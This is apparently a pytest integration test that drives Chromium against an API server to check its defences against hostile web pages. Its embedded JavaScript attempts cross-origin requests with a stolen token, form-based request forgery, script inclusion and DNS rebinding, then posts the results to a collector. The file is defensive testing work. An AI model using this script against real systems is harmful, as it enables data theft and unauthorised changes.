"""A web page in an operator's browser against the API: cross-origin calls, and a name that is rebound to this machine.

The page has even got hold of the API's token. The same page against a server that guards nothing shows that the attempts reach their goal.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import httpx
import pytest

from testing.servers.api_server import ApiServer
from testing.servers.browser import REPORT_S_MAX, EvilSite, browsing, chromium
from testing.servers.loopback import http_server

pytestmark = pytest.mark.skipif(chromium() is None, reason="there is no Chromium on this machine (Debian package chromium)")
SECRET = "what-only-the-API-knows"
SCRIPT = """
const learned = {}, json = {'Content-Type': 'application/json'}, known = {'Authorization': 'Bearer ' + token};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    learned[name] = {status: answer.status, type: answer.type, body: (await answer.text()).slice(0, 4000)};
  } catch (error) { learned[name] = {refused: String(error)}; }
}
function element(name, tag, attributes) {
  return new Promise(done => {
    const one = document.createElement(tag);
    one.onload = () => { learned[name] = {loaded: true}; done(); };
    one.onerror = () => { learned[name] = {loaded: false}; done(); };
    Object.assign(one, attributes);
    document.body.append(one);
  });
}
function form(path, type, value) {
  return new Promise(done => {
    const frame = document.createElement('iframe'), sent = document.createElement('form'), field = document.createElement('input');
    frame.name = 'f' + Math.random();
    frame.onload = () => frame.contentWindow && sent.dataset.sent && done();
    Object.assign(sent, {method: 'POST', action: api + path, enctype: type, target: frame.name});
    field.name = value;
    sent.append(field);
    document.body.append(frame, sent);
    sent.dataset.sent = 1;
    sent.submit();
  });
}
(async () => {
  await attempt('read', api + '/api/v1/feeds');
  await attempt('read-known', api + '/api/v1/feeds', {headers: known});
  await attempt('read-opaque', api + '/metrics', {mode: 'no-cors'});
  await attempt('verify', api + '/api/v1/feeds/orders/verify', {method: 'POST', mode: 'no-cors'});
  await attempt('create-as-text', api + '/api/v1/feeds', {method: 'POST', mode: 'no-cors', body: feed});
  await attempt('create-known', api + '/api/v1/feeds', {method: 'POST', headers: {...json, ...known}, body: feed});
  await attempt('remove-known', api + '/api/v1/feeds/orders', {method: 'DELETE', headers: known});
  await element('script', 'script', {src: api + '/api/v1/feeds'});
  await form('/api/v1/feeds', 'text/plain', feed);
  await form('/api/v1/feeds/orders/verify', 'application/x-www-form-urlencoded', 'x');
  await attempt('rebind', '/rebind/' + port, {method: 'POST'});
  await attempt('rebound-read', '/api/v1/feeds');
  await attempt('rebound-read-known', '/api/v1/feeds', {headers: known});
  await attempt('rebound-open', '/metrics');
  await attempt('rebound-create', '/api/v1/feeds', {method: 'POST', headers: {...json, ...known}, body: feed});
  await attempt('rebound-remove', '/api/v1/feeds/orders', {method: 'DELETE', headers: known});
  await fetch(collector + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(learned)});
})();
"""


def attacked(url: str, token: str, directory: Path) -> dict[str, Any]:
    """Return what the page learned in a real browser."""
    feed = {"name": "stolen", "tables": ["shop.orders"], "sink": {"uri": "memory://stolen/x"}}
    program = chromium()
    assert program is not None
    with EvilSite() as site:
        port, collector = int(url.rpartition(":")[2]), f"http://127.0.0.1:{site.port}"
        site.play(SCRIPT, api=url, collector=collector, port=port, token=token, feed=json.dumps(feed))
        with browsing(program, site, directory):
            assert site.reported.wait(REPORT_S_MAX), (directory / "browser.log").read_text(encoding="utf-8", errors="replace")[-3000:]
        return site.report


@contextmanager
def unguarded() -> Iterator[tuple[str, list[tuple[str, str, str | None]]]]:
    """Run a server that answers everybody; yield its address, and what it was asked: method, path, origin."""
    asked: list[tuple[str, str, str | None]] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            asked.append((self.command, self.path, self.headers.get("Origin")))
            content = f"'{SECRET}'".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_GET = do_POST = do_DELETE = do_OPTIONS = answer  # noqa: N815 - the names that http.server looks for

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            """Say nothing."""

    with http_server(Handler) as address:
        yield address, asked


@pytest.mark.integration
def test_no_web_page_reaches_the_api(tmp_path: Path) -> None:
    (tmp_path / "server").mkdir()
    (tmp_path / "browser").mkdir()
    with (
        ApiServer(tmp_path / "server", "shop.orders") as server,
        httpx.Client(base_url=server.url, headers=server.headers, trust_env=False, timeout=60) as client,
    ):
        feed = {"name": "orders", "tables": ["shop.orders"], "sink": {"uri": f"memory://lake/{SECRET}"}}
        assert client.post("/api/v1/feeds", json=feed).status_code == 201
        learned = attacked(server.url, server.token, tmp_path / "browser")
        feeds = [found["name"] for found in client.get("/api/v1/feeds").json()["feeds"]]
    assert learned["rebind"]["status"] == 200
    # The page saw no answer of the API but refusals, and nothing that it sent had an effect.
    for name in ("read", "read-known", "create-known", "remove-known"):
        assert "refused" in learned[name], (name, learned[name])
    for name in ("read-opaque", "verify", "create-as-text"):
        assert (learned[name]["type"], learned[name]["body"]) == ("opaque", "")
    assert learned["script"] == {"loaded": False}
    rebound = {name: found for name, found in learned.items() if name.startswith("rebound-")}
    assert {found["status"] for found in rebound.values()} == {403}
    assert {json.loads(found["body"])["code"] for found in rebound.values()} == {"API_PLACE_REFUSED"}
    assert len(rebound) == 5
    assert SECRET not in json.dumps(learned)
    assert feeds == ["orders"]


@pytest.mark.integration
def test_the_same_page_gets_into_a_server_without_a_guard(tmp_path: Path) -> None:
    with unguarded() as (url, asked):
        learned = attacked(url, "token", tmp_path)
    assert learned["script"] == {"loaded": True}
    assert SECRET in learned["rebound-read"]["body"]
    assert SECRET in learned["rebound-create"]["body"]
    calls = [(method, path) for method, path, _ in asked]
    # Simple requests arrive from another origin, which the browser names; others are asked about first.
    assert calls.count(("POST", "/api/v1/feeds/orders/verify")) == 2
    assert calls.count(("POST", "/api/v1/feeds")) == 3
    assert ("DELETE", "/api/v1/feeds/orders") in calls
    assert {origin for method, _, origin in asked if method == "POST"} == {"http://evil.example"}
